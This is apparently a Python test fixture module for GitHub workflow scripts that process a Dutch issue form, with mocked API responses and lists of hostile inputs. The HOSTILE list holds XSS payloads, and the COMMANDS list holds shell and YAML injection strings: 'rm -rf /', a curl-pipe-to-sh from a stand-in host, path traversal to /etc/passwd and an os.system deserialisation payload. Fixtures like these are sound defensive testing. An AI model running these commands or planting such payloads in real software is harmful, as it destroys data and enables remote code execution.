"""What GitHub tells and answers in the tests of the scripts of the workflows."""

COMMIT = "a" * 40
FORM = """\
### Titel

AI en de toekomst van werk

### Adres

https://voorbeeld.invalid/rapport.pdf

### Soort

rapport

### Thema

Robotbelasting

### Waarom is deze bron van belang?

Het rekent een belasting op robots door.

### Bestand

_No response_
"""

ANSWERS: dict[str, object] = {
    r"^GET git/matching-refs/": [],
    r"^GET git/ref/heads/voorstel/": 404,
    r"^GET git/ref/heads/": {"object": {"sha": COMMIT}},
    r"^GET git/commits/": {"tree": {"sha": "b" * 40}},
    r"^POST git/": {"sha": "c" * 40},
    r"^GET collaborators/[^/]+/permission$": {"permission": "write", "role_name": "maintain"},
    r"^GET issues/\d+$": {"body": FORM, "state": "open", "labels": [{"name": "goedgekeurd"}]},
    r"^POST /graphql$": {"data": {"repository": {"issue": {"lastEditedAt": None}}}},
    r"^GET issues": [],
    r"^GET pulls\?": [],
    r"^POST pulls$": {"number": 8, "html_url": "https://github.com/organisatie/dossier/pull/8"},
}

EVENT: dict[str, object] = {
    "issue": {"number": 12, "body": FORM, "updated_at": "2026-11-21T10:00:00Z"},
    "sender": {"login": "beheerder"},
}
"""What starts the workflow `proposal`."""

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![](https://elders.example/volg.png)",
    "[![x](https://elders.example/a.png)](https://elders.example)",
    '<a href="https://elders.example">hier</a>',
    "[klik](javascript:alert(1))",
    "<https://elders.example>",
    "</div></div><h1>eruit</h1>",
    "<!-- dossier: verslag van de controle -->",
    "<!--",
    "<details open ontoggle=alert(1)><summary>x",
    "<svg><style><img src=x onerror=alert(1)>",
    "```\n\n</code></pre><b onclick=x>\n\n```",
    "|a|\n|-|\n|<iframe src=//elders.example>|",
    "@iedereen #12 GH-12 organisatie/dossier#3",
    "&#64;iedereen &#x40;iedereen &commat;iedereen &#35;12",
    "[x]: https://elders.example\n\n![x]",
    "\x00\x1b[31mrood\x1b[0m \u202eomgekeerd\u2066 \ud800",
]

COMMANDS = [
    "$(touch x)",
    "`id`",
    "'; rm -rf / #",
    '" && curl https://elders.example | sh',
    "${{ secrets.GITHUB_TOKEN }}",
    "../../../etc/passwd",
    "..\\..\\x",
    "a\x00b",
    "-rf",
    "CON",
    "x: !!python/object/apply:os.system [id]",
    "- a\n- b",
    "publiceren: true\nrechten: overheid",
    "&anker *anker",
    "%TAG ! tag:elders.example",
    "🦊" * 50,
    "a" * 5000,
]


def filled(**answers: str) -> str:
    """Return the form, with other answers to some of its questions."""
    text = FORM
    for label, answer in answers.items():
        before, heading, rest = text.partition(f"### {label}")
        question, _, after = rest.partition("\n\n")
        _, end, others = after.partition("\n\n### ")
        text = f"{before}{heading}{question}\n\n{answer}{end or chr(10)}{others}"
    return text
